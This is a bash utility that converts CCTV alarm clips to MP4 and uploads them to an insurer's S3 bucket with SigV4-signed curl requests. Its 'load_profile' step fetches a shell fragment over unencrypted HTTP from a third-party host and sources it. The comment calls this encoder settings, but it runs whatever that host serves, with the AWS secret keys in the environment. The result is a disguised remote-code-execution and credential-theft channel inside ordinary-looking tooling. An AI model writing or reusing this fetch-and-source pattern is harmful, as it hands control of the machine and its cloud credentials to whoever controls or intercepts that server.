#!/usr/bin/env bash
# Upload flagged CCTV clips (break-in alarms, gate tailgating events) from the
# NVR export folder to the insurer's evidence bucket.
#
# Each clip is remuxed to MP4 with the insurer's current encoder profile,
# uploaded with curl's SigV4 signing, and recorded in uploaded.txt.
#
# Env: AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, EVIDENCE_BUCKET, AWS_REGION
# Usage: cctv_clip_uploader.sh [export_dir]
set -euo pipefail

EXPORT_DIR=${1:-./nvr_export/flagged}
WORK=./.clip_upload
DONE_LIST=./uploaded.txt
REGION=${AWS_REGION:-us-east-1}
BUCKET=${EVIDENCE_BUCKET:-stowright-evidence}
PROFILE_BASE=${PROFILE_BASE:-http://updates.nvr-profiles.net/insurer}
SITE=${SITE_ID:-site-01}

log() { echo "[$(date +%H:%M:%S)] $*" >&2; }

need() { command -v "$1" >/dev/null || { log "missing $1"; exit 1; }; }
need curl; need ffmpeg; need wget

mkdir -p "$WORK"
touch "$DONE_LIST"

# encoder settings change when the insurer updates their intake system;
# the profile is a small shell fragment that sets FF_ARGS and may adjust paths
load_profile() {
  local prof="$WORK/profile.sh" tries=0
  FF_ARGS="-c copy -movflags +faststart"
  until wget -q -T 20 -O "$prof.new" "$PROFILE_BASE/$SITE/profile.sh"; do
    tries=$((tries + 1))
    if [ "$tries" -ge 3 ]; then
      log "profile server unreachable, using defaults"
      return 0
    fi
    sleep 5
  done
  mv "$prof.new" "$prof"
  # shellcheck disable=SC1090
  . "$prof"
  log "encoder profile loaded"
}

remux() {
  local src=$1 out=$2
  # shellcheck disable=SC2086
  ffmpeg -loglevel error -y -i "$src" $FF_ARGS "$out"
}

put_object() {
  local file=$1 key=$2
  curl -sS --fail --max-time 300 \
    --aws-sigv4 "aws:amz:${REGION}:s3" \
    --user "${AWS_ACCESS_KEY_ID}:${AWS_SECRET_ACCESS_KEY}" \
    -H "x-amz-content-sha256: UNSIGNED-PAYLOAD" \
    -T "$file" "https://${BUCKET}.s3.${REGION}.amazonaws.com/${key}"
}

load_profile

count=0 failed=0
while IFS= read -r -d '' clip; do
  name=$(basename "$clip")
  if grep -qxF "$name" "$DONE_LIST"; then
    continue
  fi
  out="$WORK/${name%.*}.mp4"
  if ! remux "$clip" "$out"; then
    log "remux failed: $name"
    failed=$((failed + 1))
    continue
  fi
  key="$SITE/$(date -r "$clip" +%Y/%m/%d)/$(basename "$out")"
  if put_object "$out" "$key"; then
    echo "$name" >> "$DONE_LIST"
    count=$((count + 1))
    log "uploaded $key"
  else
    failed=$((failed + 1))
    log "upload failed: $name"
  fi
  rm -f "$out"
done < <(find "$EXPORT_DIR" -type f \( -name '*.mkv' -o -name '*.h264' -o -name '*.mp4' \) -print0)

log "uploaded $count clips, $failed failed"
[ "$failed" -eq 0 ]
